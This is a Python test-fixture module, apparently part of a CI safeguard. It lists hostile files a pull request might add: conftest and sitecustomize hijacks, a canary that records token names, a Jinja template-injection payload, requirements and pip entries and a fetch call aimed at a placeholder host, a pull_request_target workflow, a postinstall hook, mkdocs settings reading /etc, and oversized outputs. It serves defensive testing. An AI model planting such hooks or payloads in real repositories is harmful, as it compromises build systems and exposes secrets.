"""Programs of a contribution: code where something looks for code of its own, and settings that would run it."""

from __future__ import annotations

import struct
import zlib

PYTHON = (
    "import os, pathlib\n"
    "pathlib.Path('{file}').write_text(str(sorted(name for name in os.environ if 'TOKEN' in name)))\n"
)
"""Makes the canary, with the names of the tokens that it sees."""
_FACTS = "scripts/handbook/review/facts.py"
PROGRAMS = {
    "tests of their own": ("tests/conftest.py", "{python}"),
    "conftest at the top": ("conftest.py", "{python}"),
    "sitecustomize at the top": ("sitecustomize.py", "{python}"),
    "sitecustomize of the package": ("scripts/sitecustomize.py", "{python}"),
    "usercustomize": ("scripts/usercustomize.py", "{python}"),
    "another yaml": ("yaml.py", "{python}raise ImportError\n"),
    "another json": ("scripts/json.py", "{python}raise ImportError\n"),
    "another package": ("handbook.py", "{python}"),
    "the package": ("scripts/handbook/__init__.py", "{python}"),
    "the package's end": ("scripts/handbook/__main__.py", "{python}{before}"),
    "facts of their own": (
        _FACTS,
        "{before}\n{python}\ndef facts(found):\n    return '@everyone <script>x</script>'\n",
    ),
    "large facts": (_FACTS, "{before}\ndef facts(found):\n    return '[' * 50_000_000\n"),
    "annotations": ("scripts/handbook/reports/github.py", "{before}\nprint('::set-env name=x::y')\n"),
    "a template": ("overrides/main.html", "{{{{ cycler.__init__.__globals__.os.system('touch {file}') }}}}\n"),
    "a script of the theme": ("overrides/assets/javascripts/x.js", "fetch('{web}')\n"),
    "pyproject": ("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-p x'\n[build-system]\nrequires = ['x']\n"),
    "requirements": ("requirements.txt", "evil @ {web}\n--index-url {web}\n"),
    "a workflow": (
        ".github/workflows/x.yml",
        "on: pull_request_target\njobs: {{x: {{steps: [{{run: touch {file}}}]}}}}\n",
    ),
    "a package of Node": ("package.json", '{{"scripts": {{"postinstall": "touch {file}"}}}}'),
    "pip": ("pip.conf", "[global]\nindex-url = {web}\n"),
    "an environment": (".env", "PYTHONSTARTUP=conftest.py\nGITHUB_TOKEN=x\n"),
    "hooks of the engine": ("mkdocs.yml", "{before}\nhooks: [docs/x.py]\n"),
    "another's settings": ("mkdocs.yml", "INHERIT: ../outside/mkdocs.yml\n{before}"),
    "scripts of the engine": ("mkdocs.yml", "{before}\nextra_javascript: ['{web}']\n"),
    "plugins": ("mkdocs.yml", "{before}\nplugins: [search, macros, exec]\n"),
    "snippets": ("mkdocs.yml", "{before}\nmarkdown_extensions: [{{pymdownx.snippets: {{base_path: /etc}}}}]\n"),
    "a site over the sources": ("mkdocs.yml", "site_dir: docs\n{before}"),
    "a site elsewhere": ("mkdocs.yml", "site_dir: ../outside\n{before}"),
    "sources elsewhere": ("mkdocs.yml", "docs_dir: /etc\n{before}"),
}
"""A name -> a path, and what stands there; `{before}` is what was there, `{python}` the code above."""
IDLE = {
    *("a script of the theme", "pyproject", "requirements", "a workflow", "a package of Node", "pip", "an environment"),
    *(
        "hooks of the engine",
        "another's settings",
        "scripts of the engine",
        "plugins",
        "snippets",
        "tests of their own",
    ),
    *("a site over the sources", "a site elsewhere", "sources elsewhere", "conftest at the top"),
}
"""Those that no step of the first two jobs runs."""


def png_of(width: int, height: int) -> bytes:
    """A PNG that says that it has so many dots, and has none."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )
